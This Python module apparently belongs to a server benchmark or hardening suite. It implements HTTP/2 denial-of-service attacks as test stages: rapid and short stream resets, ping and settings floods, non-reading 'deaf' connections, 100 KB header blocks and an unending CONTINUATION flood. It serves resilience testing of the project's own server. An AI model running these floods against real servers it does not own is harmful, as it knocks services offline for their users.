"""Attacks with frames: each is cheap to send, and makes the server work or remember."""

from __future__ import annotations

import contextlib
from collections.abc import Iterable

from benchmarks.hostile import http2
from benchmarks.hostile.http2 import Connection
from benchmarks.hostile.stage import Stage

_BURST = 100
_SHORT_RESETS = 25_000  # Some 700 KB.
_DEAF_PEERS = 300
_LARGE_BLOCK_BYTES = 100_000


def rapid_reset(stage: Stage) -> None:
    """Streams of calls that are opened and reset at once."""
    block = http2.request(http2.CALL, stage.token)

    def burst(connection: Connection) -> int:
        connection.send(resets([connection.new_stream() for _ in range(_BURST)], block, block))
        connection.windows = {0: connection.windows[0]}  # Forgets them, too.
        connection.closed_streams.clear()
        return _BURST

    stage.flood("resets", stage.scaled(100_000), burst)


def short_resets(stage: Stage) -> None:
    """The same in as few bytes as possible, all that a connection may send at once."""
    data = resets(range(1, 2 * _SHORT_RESETS, 2), *http2.short_requests(http2.CALL, stage.token))

    def burst(connection: Connection) -> int:
        connection.send(data)
        return _SHORT_RESETS

    stage.flood("resets", stage.scaled(4_000_000), burst)


def resets(streams: Iterable[int], first: bytes, block: bytes) -> bytes:
    """Requests with the header block `first`, then `block`, each followed by its reset."""
    frames = []
    for stream in streams:
        frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, first))
        frames.append(http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL.to_bytes(4, "big")))
        first = block
    return b"".join(frames)


def ping_flood(stage: Stage) -> None:
    """Pings whose answers are not read."""
    _repeat(stage, "pings", http2.frame(http2.PING, payload=bytes(8)), 1_000_000)


def settings_flood(stage: Stage) -> None:
    """Settings whose acknowledgements are not read."""
    frame = http2.settings({http2.INITIAL_WINDOW_SIZE: 65_535})
    _repeat(stage, "settings", frame, 1_000_000)


def deaf_peers(stage: Stage) -> None:
    """Connections that send settings until the server stops reading them, and read nothing."""
    frames = http2.settings({http2.INITIAL_WINDOW_SIZE: 65_535}) * 1000
    for _ in range(stage.scaled(_DEAF_PEERS)):
        connection = stage.connect()
        if connection is None or not stage.running():
            break
        connection.socket.settimeout(0.05)
        with contextlib.suppress(OSError):
            while stage.running():
                connection.send(frames)
                stage.counts["settings"] += 1000
    stage.hold(deaf=True)


def large_headers(stage: Stage) -> None:
    """Requests with 100 KB of headers: in proper pieces, and in one oversized frame."""
    block = http2.request(http2.CALL, stage.token, large="x" * _LARGE_BLOCK_BYTES)

    def burst(connection: Connection) -> int:
        stream = connection.new_stream()
        if stage.counts["requests"] % 2:
            connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block))
        else:
            connection.send(_in_pieces(stream, block))
        return 1

    stage.flood("requests", stage.scaled(4000), burst)


def continuation_flood(stage: Stage) -> None:
    """Requests whose headers never end."""
    fields = b"".join(http2.field(f"x-{i}", "x" * 1000) for i in range(16))
    limit = stage.scaled(25_000)  # 400 MB.
    start = http2.request(http2.CALL, stage.token)

    def burst(connection: Connection) -> int:
        if 1 not in connection.windows:
            stream = connection.new_stream()
            connection.send(http2.frame(http2.HEADERS, 0, stream, start))
        connection.send(http2.frame(http2.CONTINUATION, 0, 1, fields))
        return 1

    stage.flood("continuations", limit, burst)


def _repeat(stage: Stage, what: str, frame: bytes, limit: int) -> None:
    frames = frame * _BURST

    def burst(connection: Connection) -> int:
        connection.send(frames)
        return _BURST

    stage.flood(what, stage.scaled(limit), burst, deaf=True)


def _in_pieces(stream: int, block: bytes) -> bytes:
    size = http2.MAX_FRAME_BYTES
    frames = [http2.frame(http2.HEADERS, 0, stream, block[:size])]
    for start in range(size, len(block), size):
        flags = 0 if start + size < len(block) else http2.END_HEADERS
        frames.append(http2.frame(http2.CONTINUATION, flags, stream, block[start : start + size]))
    return b"".join(frames)
